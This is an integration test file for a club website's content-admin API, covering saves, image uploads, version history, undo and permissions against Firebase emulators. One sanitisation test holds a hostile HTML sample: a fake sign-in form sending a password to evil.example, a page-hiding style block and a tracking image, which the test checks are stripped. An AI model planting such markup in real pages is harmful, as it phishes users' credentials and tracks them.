import { Timestamp } from 'firebase-admin/firestore';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  adminBucket,
  adminDb,
  clearFirestore,
  createAdmin,
  storageName,
} from '../../../../tests/support/emulators';
import { signIn, signOut } from '../../auth';
import { addArticle, deleteArticle, updateArticle } from './articles-collection';
import { getArticles } from './get-articles';
import { getSiteContent } from './read-site-content';
import { saveHomeContent } from './save-home-content';
import { saveNewsletter } from './save-newsletter';
import { saveRules } from './save-rules';
import { getItemHistory, restoreVersion } from '../../../lib/history';
import { CONTENT_FIELDS } from './content-ref';

// The app's api modules signed in as a manageContent admin, against the real firestore.rules.
describe('content admin api against the emulators', () => {
  let contentAdmin: { uid: string; email: string; password: string };
  let otherAdmin: { email: string; password: string };

  beforeAll(async () => {
    // The save functions sanitise with DOMPurify, which needs the DOM a browser has.
    const { JSDOM } = await import('jsdom');
    Object.assign(globalThis, { window: new JSDOM('').window });
    await clearFirestore();
    contentAdmin = await createAdmin('content-int-admin', { manageContent: true });
    otherAdmin = await createAdmin('content-int-other', { manageMatches: true });
  });
  beforeEach(async () => {
    // Each test starts content/main afresh, without the history of the one before.
    const history = await adminDb().collection('history').where('path', '==', 'content/main').get();
    await Promise.all(history.docs.map((entry) => entry.ref.delete()));
    await adminDb().doc('content/main').set({
      homeText: 'old home',
      homeImage: 'https://example.org/old.jpg',
      rulesText: 'old rules',
      rulesUpdated: '01/01/2020',
      newsletterText: 'old news',
    });
    await signIn(contentAdmin.email, contentAdmin.password);
  });
  afterAll(async () => {
    await signOut();
    Reflect.deleteProperty(globalThis, 'window');
  });

  it('saves the home text and keeps the image when no picture is given', async () => {
    await saveHomeContent('<p>new home</p>');
    expect(await getSiteContent()).toMatchObject({
      homeText: '<p>new home</p>',
      homeImage: 'https://example.org/old.jpg',
    });
  });

  it('uploads a picture under contentImage/ and sets homeImage to it; the old one can come back', async () => {
    await saveHomeContent('first', new Blob(['first picture'], { type: 'image/png' }));
    const first = (await getSiteContent()).homeImage;
    const saved = await saveHomeContent(
      'second',
      new Blob(['home picture'], { type: 'image/png' }),
    );
    const content = await getSiteContent();
    const name = storageName(content.homeImage);
    expect(name).toMatch(/^contentImage\/[0-9a-f-]{36}$/);
    const [bytes] = await adminBucket().file(name).download();
    expect(bytes.toString()).toBe('home picture');
    expect(await (await fetch(content.homeImage)).text()).toBe('home picture');
    expect(saved).toMatchObject({ path: 'content/main', rev: 2, homeText: '<p>second</p>' });

    // The replaced picture is kept: the home history puts it back (home fields only), so the
    // rules saved meanwhile stay as they are.
    expect(await (await fetch(first)).text()).toBe('first picture');
    await saveRules('<p>Newer rules</p>');
    const [, homeChange] = await getItemHistory('manageContent', 'content/main');
    expect(homeChange).toMatchObject({ kind: 'edit', title: 'Home page', rev: 2 });
    await restoreVersion(homeChange!, undefined, CONTENT_FIELDS.home);
    expect(await getSiteContent()).toMatchObject({
      homeImage: first,
      homeText: '<p>first</p>',
      rulesText: '<p>Newer rules</p>',
    });
  });

  it('an edit of the rules can be undone, and an earlier version put back', async () => {
    const saved = await saveRules('<p>Rules two</p>', new Date(2026, 0, 2));
    await saveRules('<p>Rules three</p>', new Date(2026, 0, 3));
    await saveNewsletter('Later news');
    const [, latestRules, firstRules] = await getItemHistory('manageContent', 'content/main');
    expect(firstRules).toMatchObject({ rev: saved.rev, title: 'Rules' });
    await restoreVersion(latestRules!, undefined, CONTENT_FIELDS.rules);
    expect(await getSiteContent()).toMatchObject({
      rulesText: '<p>Rules two</p>',
      rulesUpdated: '02/01/2026',
      newsletterText: '<p>Later news</p>',
    });
    await saved.undo();
    expect(await getSiteContent()).toMatchObject({
      rulesText: 'old rules',
      rulesUpdated: '01/01/2020',
    });
  });

  it('saving the rules sets rulesUpdated to the day as dd/mm/yyyy', async () => {
    const returned = await saveRules('<ol><li>Be nice</li></ol>', new Date(2026, 10, 5, 14));
    expect(returned).toMatchObject({
      rulesText: '<ol><li>Be nice</li></ol>',
      rulesUpdated: '05/11/2026',
    });
    expect(await getSiteContent()).toMatchObject({
      rulesText: '<ol><li>Be nice</li></ol>',
      rulesUpdated: '05/11/2026',
      homeText: 'old home',
    });
  });

  it('saves the newsletter text alone, old literal \\n as clean HTML', async () => {
    await saveNewsletter('Spring news\\nfrom the club');
    expect(await getSiteContent()).toMatchObject({
      newsletterText: '<p>Spring news<br>from the club</p>',
      rulesText: 'old rules',
    });
  });

  it('adds an article dated now and deletes it', async () => {
    const before = Date.now();
    const id = await addArticle({ title: 'Fresh', text: 'Body' });
    const stored = (await adminDb().doc(`content/main/homeArticles/${id}`).get()).data();
    expect(stored?.createdDate).toBeInstanceOf(Timestamp);
    // The emulator's clock is this machine's: the date lies within the call.
    const created = (stored?.createdDate as Timestamp).toMillis();
    expect(created).toBeGreaterThanOrEqual(before - 1000);
    expect(created).toBeLessThanOrEqual(Date.now() + 1000);
    expect((await getArticles())[0]).toMatchObject({ id, title: 'Fresh', text: '<p>Body</p>' });

    const deleted = await deleteArticle(id, 'Fresh');
    expect((await adminDb().doc(`content/main/homeArticles/${id}`).get()).exists).toBe(false);
    // Each change recorded: who, when, what it was before (the delete keeps the whole article).
    const history = await adminDb()
      .collection('history')
      .where('path', '==', `content/main/homeArticles/${id}`)
      .orderBy('rev')
      .get();
    expect(history.docs.map((entry) => entry.data().kind)).toEqual(['create', 'delete']);
    expect(history.docs[1]!.data()).toMatchObject({
      area: 'manageContent',
      rev: 2,
      by: contentAdmin.uid,
      email: contentAdmin.email,
      before: { title: 'Fresh', text: '<p>Body</p>', rev: 1 },
    });
    expect(history.docs[1]!.data().at).toBeInstanceOf(Timestamp);

    // Undo brings it back (a recorded restore), then an edit and its undo.
    await deleted.undo();
    expect((await getArticles())[0]).toMatchObject({ id, title: 'Fresh', text: '<p>Body</p>' });
    const edited = await updateArticle(id, { title: 'Fresher', text: 'Body 2' });
    expect((await getArticles())[0]).toMatchObject({ id, title: 'Fresher', text: '<p>Body 2</p>' });
    await edited.undo();
    expect((await getArticles())[0]).toMatchObject({ id, title: 'Fresh', text: '<p>Body</p>' });
    const kinds = await adminDb()
      .collection('history')
      .where('path', '==', `content/main/homeArticles/${id}`)
      .orderBy('rev')
      .get();
    expect(kinds.docs.map((entry) => entry.data().kind)).toEqual([
      'create',
      'delete',
      'restore',
      'edit',
      'restore',
    ]);
  });

  it('stores only the editor markup: a fake sign-in form, a <style> and a tracking image go', async () => {
    const hostile =
      '<style>body{display:none}</style><p>Please sign in</p>' +
      '<form action="https://evil.example"><input type="password" name="p"></form>' +
      '<img src="https://tracker.example/p.gif"><a href="/\\evil.example">x</a>';
    const clean = '<p>Please sign in</p><a href="https://evil.example/">x</a>';
    expect(await saveHomeContent(hostile)).toMatchObject({ homeText: clean });
    expect(await saveRules(hostile)).toMatchObject({ rulesText: clean });
    expect(await saveNewsletter(hostile)).toMatchObject({ newsletterText: clean });
    const id = await addArticle({ title: 'T', text: hostile });
    const stored = (await adminDb().doc('content/main').get()).data();
    expect(stored).toMatchObject({ homeText: clean, rulesText: clean, newsletterText: clean });
    expect((await adminDb().doc(`content/main/homeArticles/${id}`).get()).data()?.text).toBe(clean);
    await deleteArticle(id);
  });

  it('refuses an admin without manageContent', async () => {
    await signIn(otherAdmin.email, otherAdmin.password);
    await expect(saveNewsletter('hijack')).rejects.toMatchObject({ code: 'permission-denied' });
    await expect(addArticle({ title: 'x', text: 'y' })).rejects.toMatchObject({
      code: 'permission-denied',
    });
    expect((await adminDb().doc('content/main').get()).data()?.newsletterText).toBe('old news');
  });
});
